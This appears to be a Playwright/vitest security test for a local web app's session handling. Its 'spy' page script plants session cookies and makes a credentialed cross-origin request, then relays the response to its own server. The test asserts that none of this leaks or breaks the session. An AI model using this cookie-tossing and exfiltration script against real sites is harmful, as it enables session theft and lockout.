// The station's key against another server on a loopback port, in a real browser: the operator logs in,
// then visits a page another program serves on 127.0.0.1 (a dev server, another user's process, a page a
// foreign site redirected to). That server must receive nothing that opens the station, and the cookies
// its page plants must not lock the operator out.
import { createServer } from 'node:http';
import type { IncomingHttpHeaders, Server } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStation } from '../../core/station/station';
import type { Station } from '../../core/station/station';
import { startHttpServer } from '../../core/server/http-server';
import type { RunningServer } from '../../core/server/http-server';
import { launchChromium } from './browser';
import { ensureRendererBuilt, RENDERER_DIST } from './renderer-build';

/** A page that reads and tosses cookies for 127.0.0.1, then asks the station with what the browser holds. */
function spyPage(stationPort: number): string {
  return `<!doctype html><title>spy</title><script>
document.cookie = 'korrigo-session-${stationPort}=x; path=/api';
document.cookie = 'korrigo-session-${stationPort}=x; path=/';
document.cookie = 'korrigo-session=x; path=/';
fetch('http://127.0.0.1:${stationPort}/api/station.info', { method: 'POST', credentials: 'include', body: '{}' })
  .then((r) => r.text()).then((t) => fetch('/report?station=' + encodeURIComponent(t)))
  .catch(() => fetch('/report?station=unreachable'));
</script>`;
}

/** What the station answers, from the page, to an API call carrying this session id. */
function stationInfoStatus(page: Page, session: string | null): Promise<number> {
  return page.evaluate(async (id) => {
    const response = await fetch('/api/station.info', {
      method: 'POST',
      headers: { authorization: `Bearer ${id}`, 'content-type': 'application/json' },
      body: '{}',
    });
    return response.status;
  }, session);
}

describe('the station key against another loopback port, in Chromium', () => {
  let root: string;
  let station: Station;
  let server: RunningServer;
  let spy: Server;
  let spyOrigin: string;
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'korrigo-key-'));
    [browser] = await Promise.all([launchChromium(), ensureRendererBuilt()]);
    station = createStation({ dataDir: join(root, 'data') });
    server = await startHttpServer({ station, staticDir: RENDERER_DIST });
    spy = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(req.url === '/' ? spyPage(server.port) : 'ok');
    });
    await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
    const address = spy.address();
    spyOrigin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    page = await browser.newPage({ locale: 'fr-FR' });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => spy?.close(resolve));
    await server?.close();
    station?.close();
    await rm(root, { recursive: true, force: true });
  });

  it('gives another loopback port nothing that opens the station, and survives its cookies', async () => {
    const loginUrl = server.loginUrl;
    await page.goto(loginUrl);
    await page.getByText('Aucun lot traité pour l’instant.').waitFor();
    // The spent login code leaves the address bar.
    expect(page.url()).toBe(`${server.origin}/`);
    const session = await page.evaluate(() => window.sessionStorage.getItem('korrigo-session'));
    expect(session).toMatch(/^[\w-]{40,}$/);

    await page.goto(spyOrigin);
    await expect.poll(() => seen.some((request) => request.url.startsWith('/report'))).toBe(true);
    const secrets = [server.token, session ?? '', new URL(loginUrl).hash.slice('#login='.length)];
    for (const request of seen) {
      const everything = JSON.stringify(request);
      for (const secret of secrets) expect(everything, request.url).not.toContain(secret);
    }
    // What the browser held did not open the station from that page either.
    const report = decodeURIComponent(seen.find((r) => r.url.startsWith('/report'))?.url ?? '');
    expect(report).not.toContain('"ok":true');

    // Back on the station, the planted cookies change nothing: the UI still answers.
    await page.goto(server.origin);
    await page.getByText('Aucun lot traité pour l’instant.').waitFor();
    expect(await page.getByRole('alert').count()).toBe(0);
    expect(await stationInfoStatus(page, session)).toBe(200);

    // Ending the session: the id stops working on the station, and the page no longer holds it.
    await page.getByRole('button', { name: 'Se déconnecter' }).click();
    await page.getByText('Session absente ou terminée').waitFor();
    expect(await page.evaluate(() => window.sessionStorage.getItem('korrigo-session'))).toBeNull();
    expect(await stationInfoStatus(page, session)).toBe(403);
  });

  it('opens nothing from the login link left in history', async () => {
    const used = server.loginUrl;
    const first = await browser.newPage();
    await first.goto(used);
    await first.getByText('Aucun lot traité pour l’instant.').waitFor();
    await first.close();
    // Someone later replays the link from the history, in another browser session.
    const context = await browser.newContext({ locale: 'fr-FR' });
    const replay = await context.newPage();
    await replay.goto(used);
    await replay.getByText('Session absente ou terminée').waitFor();
    await context.close();
  });
});
